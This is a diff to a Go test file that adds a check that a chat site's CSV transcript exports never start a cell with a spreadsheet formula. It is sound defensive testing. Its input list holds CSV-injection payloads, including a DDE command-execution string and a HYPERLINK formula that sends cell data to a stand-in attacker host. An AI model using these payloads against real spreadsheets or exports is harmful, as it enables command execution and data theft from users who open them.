@@ -67,6 +67,34 @@ func TestTranscript(t *testing.T) {
 	}
 }
 
+// What strangers call themselves and write is no formula in anybody's
+// spreadsheet, and moves nothing from its column: for agents and for visitors.
+func TestTranscriptRunsNoFormulas(t *testing.T) {
+	s := newSite(t, Options{Rates: unlimited})
+	evil := []string{
+		`=1+1`, `+1`, `-1`, `@SUM(A1)`, "\t=1", "\r=1", "\n=1", `=cmd|' /C calc'!A0`, `=HYPERLINK("https://evil.example/?"&A1,"x")`, `"=1+1`, "=1\n=2", `a,=1`, "＝1", "−1", `=1",=2`, "\u200b=1",
+	}
+	for _, text := range evil {
+		v := s.visitor()
+		id := v.call("POST", "/sessions", mustJSON(map[string]any{"visitor_name": text, "message": text})).want(201).text("session_id")
+		s.api("POST", "/sessions/"+id+"/messages", mustJSON(map[string]any{"sender": "agent", "sender_name": text, "message": text})).want(201)
+		for columns, r := range map[int]*reply{8: s.api("GET", "/sessions/"+id+"/transcript?format=csv", ""), 7: v.call("GET", "/sessions/"+id+"/transcript?format=csv", "")} {
+			rows, err := csv.NewReader(strings.NewReader(r.want(200).raw)).ReadAll()
+			if err != nil || len(rows) != 3 || len(rows[0]) != columns || !strings.Contains(r.raw, "\r\n") {
+				t.Fatalf("%q: %q, %v", text, rows, err)
+			}
+			for _, row := range rows[1:] {
+				for i, cell := range row {
+					if first := strings.TrimLeft(cell, "\u200b"); first != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", []rune(first)[0]) {
+						t.Errorf("%q: cell %d begins a formula: %q", text, i, cell)
+					}
+				}
+			}
+		}
+	}
+	t.Logf("%d names and messages", len(evil))
+}
+
 // No cell of the file can be taken for a formula, and it reads back as it was.
 func FuzzTranscriptCSV(f *testing.F) {
 	for _, seed := range []string{"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "a\"b,c\r\nd", "＝1", "'", "", "\xff=", "ok"} {
